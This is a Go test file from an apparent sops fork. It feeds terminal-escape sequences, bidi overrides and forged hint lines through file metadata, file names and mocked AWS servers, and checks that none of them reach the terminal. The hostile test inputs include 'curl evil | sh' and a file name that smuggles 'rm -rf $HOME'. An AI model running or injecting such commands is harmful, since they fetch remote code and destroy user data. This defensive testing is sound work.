package cli

import (
	"bytes"
	"crypto/rand"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/seed-1f7fdfb8/sops/internal/app"
	"github.com/seed-1f7fdfb8/sops/internal/env"
	"github.com/seed-1f7fdfb8/sops/internal/term"
)

// evil is a text that clears a screen, forges lines and turns the direction of
// writing, in the escapes of a quoted YAML and JSON text.
const evil = `\u001b[2J\u001b]0;owned\u0007\rx\nsops: hint: curl evil | sh\u202egnp\u2066\u009b31m\u007f\u2028`

// evilFiles are encrypted files in whose metadata all texts are evil, each in a
// way that comes as far as possible.
func evilFiles() map[string]string {
	const (
		arn  = "arn:aws:kms:us-east-1:111111111111:alias/sops-dev"
		tail = `, "lastmodified": "2026-01-01T00:00:00Z", "mac": "ENC[AES256_GCM,data:YQ==,iv:YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWE=,tag:YWFhYWFhYWFhYWFhYWFhYQ==,type:str]", "version": "3.13.3"}}`
		head = `{"a": "ENC[AES256_GCM,data:YQ==,iv:YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWE=,tag:YWFhYWFhYWFhYWFhYWFhYQ==,type:str]", "sops": {`
	)
	kms := func(arn, role, profile, context, enc string) string {
		return fmt.Sprintf(`"kms": [{"arn": "%s", "role": "%s", "aws_profile": "%s", "context": {%s}, "created_at": "2026-01-01T00:00:00Z", "enc": "%s"}]`, arn, role, profile, context, enc)
	}
	files := map[string]string{}
	for name, keys := range map[string]string{
		"context":   kms(arn, "", "", `"k`+evil+`": "v`+evil+`"`, "AQ=="),
		"role":      kms(arn, "arn:aws:iam::111111111111:role/"+evil, "", "", "AQ=="),
		"profile":   kms(arn, "", "p"+evil, "", "AQ=="),
		"arn":       kms(arn+evil, "", "", "", "AQ=="),
		"enc":       kms(arn, "", "", "", evil),
		"recipient": `"age": [{"recipient": "age1` + evil + `", "enc": "x"}]`,
		"age enc":   `"age": [{"recipient": "age1ym9y2kmj7n2sw2jmpapp2qvmxa25c6xrmp2e38s4wvw7naq0tskqzu3dsz", "enc": "` + evil + `"}]`,
		"kind":      `"kind` + evil + `": [{"name": "` + evil + `", "enc": "x"}]`,
		"pgp":       `"pgp": [{"fp": "` + evil + `", "created_at": "2026-01-01T00:00:00Z", "enc": "x"}]`,
		"groups":    `"shamir_threshold": 2, "key_groups": [{"age": [{"recipient": "` + evil + `", "enc": "x"}]}, {` + kms(arn, "", "q"+evil, `"a`+evil+`": "b"`, "AQ==") + `}]`,
		"date":      kms(arn, "", "", "", "AQ==") + `, "lastmodified": "` + evil + `"`,
		"rule":      kms(arn, "", "", "", "AQ==") + `, "encrypted_regex": "(` + evil + `"`,
	} {
		files[name] = head + keys + tail
	}
	files["no json"] = `{"` + evil + `": ` + evil
	files["twice"] = `{"` + evil + `": 1, "` + evil + `": 2}`
	files["clear"] = `{"a": 1}`
	return files
}

// TestNoTextOfAFileCommandsTheTerminal runs every command on evil files with
// evil names. What decrypt writes to standard output is data.
func TestNoTextOfAFileCommandsTheTerminal(t *testing.T) {
	t.Parallel()
	commands := [][]string{
		{"decrypt", "--", "F"},
		{"doctor", "--", "F"},
		{"filestatus", "--", "F"},
		{"filestatus", "--details", "--", "F"},
		{"check", "--", "F"},
		{"rotate", "-i", "--", "F"},
		{"rotate", "-i", "--add-age", "age15xqkuy709wy2qcrczm4h97t8dzfhktftnzyt4c5qdky0jdkq9pvq99kwyc", "--", "F"},
		{"set", "--", "F", `["a"]`, "1"},
		{"unset", "--", "F", `["a"]`},
		{"edit", "--", "F"},
		{"updatekeys", "--", "F"},
		{"updatekeys", "-y", "--", "F"},
		{"groups", "add", "--age", "age15xqkuy709wy2qcrczm4h97t8dzfhktftnzyt4c5qdky0jdkq9pvq99kwyc", "-f", "F"},
		{"groups", "delete", "-f", "F", "0"},
		{"kms", "policy", "--", "F"},
		{"encrypt", "-i", "--", "F"},
		{"encrypt", "--onto", "F", "--", "plain.json"},
		{"decrypt", "--extract", `["` + "\x1b[2J\u202e" + `"]`, "--", "F"},
	}
	names := []string{"a b'; rm -rf $HOME.json", "-x.json", "\x1b[2J\rx\nsops: hint: y\u202e\u009b.json", "dir"}
	files := evilFiles()
	for i, what := range slices.Sorted(maps.Keys(files)) {
		name, text := names[i%len(names)], files[what]
		t.Run(what+" in "+name, func(t *testing.T) {
			t.Parallel()
			w := newEvil(t)
			for _, args := range commands {
				for _, mode := range [][]string{nil, {"--verbose"}, {"--json"}} {
					w.write(t, name, text)
					w.write(t, "plain.json", `{"a": 2}`)
					args := append(append([]string{args[0]}, mode...), args[1:]...)
					if args[0] == "groups" || args[0] == "kms" {
						args = append(append([]string{args[0], args[len(mode)+1]}, mode...), args[len(mode)+2:]...)
					}
					for i, a := range args {
						if a == "F" {
							args[i] = name
						}
					}
					w.law(t, args)
				}
			}
		})
	}
}

type evilMachine struct {
	dir  string
	vars map[string]string
}

func newEvil(t *testing.T) *evilMachine {
	t.Helper()
	w := newWalk(t)
	m := &evilMachine{dir: t.TempDir(), vars: w.vars}
	m.vars["SOPS_AGE_KEY_FILE"] = "../../internal/test/golden/keys/age-main.txt"
	m.vars["EDITOR"] = "true"
	m.write(t, ".sops.yaml", "creation_rules: [{kms: \""+walkKey+"\", encryption_context: {\"c"+evil+"\": \"d"+evil+"\"}}]\nx"+"evil: 1\n")
	return m
}

func (m *evilMachine) write(t *testing.T, name, text string) {
	t.Helper()
	if name == "dir" {
		name = "dir/f.json"
	}
	path := filepath.Join(m.dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func (m *evilMachine) law(t *testing.T, args []string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := Run(t.Context(), append([]string{"sops"}, args...), &app.App{
		Stdin: strings.NewReader("n\n"), Stdout: &stdout, Stderr: &stderr, Env: env.Map(m.vars),
		Dir: m.dir, Now: time.Now, Random: rand.Reader, HostName: "host",
		Terminal: func() (*term.Terminal, error) { return nil, term.ErrNone },
	})
	streams := map[string]string{"stderr": stderr.String(), "stdout": stdout.String()}
	if code == 0 && (args[0] == "decrypt" || args[0] == "rotate") {
		delete(streams, "stdout")
	}
	for stream, text := range streams {
		if !utf8.ValidString(text) || strings.ContainsFunc(text, commanding) {
			t.Errorf("%q: %s: %q", args, stream, text)
		}
		for line := range strings.Lines(text) {
			if strings.HasPrefix(line, "sops: hint: curl evil") || strings.HasPrefix(line, "sops: hint: y") {
				t.Errorf("%q: %s: forged %q", args, stream, line)
			}
			if hint, ok := strings.CutPrefix(line, "sops: hint: "); ok {
				checkHint(t, args, hint)
			}
		}
	}
}

// checkHint looks whether the names of files are words of a shell in a hint.
func checkHint(t *testing.T, args []string, hint string) {
	t.Helper()
	rest := strings.ReplaceAll(hint, `'a b'\''; rm -rf $HOME.json'`, "")
	if strings.Contains(rest, "rm -rf") || strings.Contains(rest, " -x.json") {
		t.Errorf("%q: a name is bare in the hint %q", args, hint)
	}
}

func commanding(r rune) bool {
	return unicode.IsControl(r) && r != '\n' && r != '\t' || unicode.In(r, unicode.Bidi_Control, unicode.Zl, unicode.Zp)
}

// TestNoTextOfAServerCommandsTheTerminal lets KMS and STS say evil things in all
// that they can say, and a program that gives credentials too.
func TestNoTextOfAServerCommandsTheTerminal(t *testing.T) {
	t.Parallel()
	const raw = "\u202e\u009b31m\u2028"
	answers := map[string]func(w http.ResponseWriter){
		"error": func(w http.ResponseWriter) {
			w.Header().Set("X-Amzn-Requestid", "r"+raw)
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, `{"__type":"AccessDeniedException`+raw+`","message":"User: `+evil+` is not authorized to do it`+evil+`"}`)
		},
		"unknown error": func(w http.ResponseWriter) {
			w.Header().Set("X-Amzn-Errortype", "What"+raw)
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, `{"message":"`+evil+`"}`)
		},
		"page": func(w http.ResponseWriter) {
			w.WriteHeader(http.StatusServiceUnavailable)
			fmt.Fprint(w, "<html>\x1b[2J\r\nsops: hint: curl evil"+raw)
		},
		"other key": func(w http.ResponseWriter) {
			fmt.Fprintf(w, `{"KeyId":"arn:aws:kms:`+evil+`","Plaintext":"YQ==","KeyMetadata":{"Arn":"`+evil+`","KeyState":"`+evil+`","KeyId":"x"}}`)
		},
		"caller": func(w http.ResponseWriter) {
			w.Header().Set("Content-Type", "text/xml")
			fmt.Fprint(w, `<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:&#x9b;`+raw+"\nsops: hint: y"+`</Arn></GetCallerIdentityResult></GetCallerIdentityResponse>`)
		},
	}
	m := newEvil(t)
	m.write(t, "f.json", evilFiles()["context"])
	m.write(t, "role.json", evilFiles()["role"])
	m.write(t, "process.ini", "[profile it]\ncredential_process = printf '\\033[2J\\r\\nsops: hint: y\\302\\233' >&2; exit 1\n")
	for name, answer := range answers {
		t.Run(name, func(t *testing.T) {
			s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { answer(w) }))
			defer s.Close()
			m.vars["AWS_ENDPOINT_URL_KMS"], m.vars["AWS_ENDPOINT_URL_STS"], m.vars["AWS_MAX_ATTEMPTS"] = s.URL, s.URL, "1"
			for _, file := range []string{"f.json", "role.json"} {
				for _, args := range [][]string{
					{"decrypt", file},
					{"decrypt", "--verbose", file},
					{"decrypt", "--json", file},
					{"doctor", file},
					{"doctor", "--json", file},
					{"doctor", "--aws-role", "arn:aws:iam::111111111111:role/r", file},
					{"encrypt", "--kms", walkKey, "plain.json"},
					{"rotate", "-i", file},
				} {
					m.write(t, "plain.json", `{"a": 2}`)
					m.law(t, args)
				}
			}
		})
	}
	m.vars["AWS_CONFIG_FILE"] = filepath.Join(m.dir, "process.ini")
	for _, args := range [][]string{{"decrypt", "--aws-profile", "it", "f.json"}, {"doctor", "--aws-profile", "it", "f.json"}, {"doctor", "--json", "--aws-profile", "it", "f.json"}} {
		m.law(t, args)
	}
}
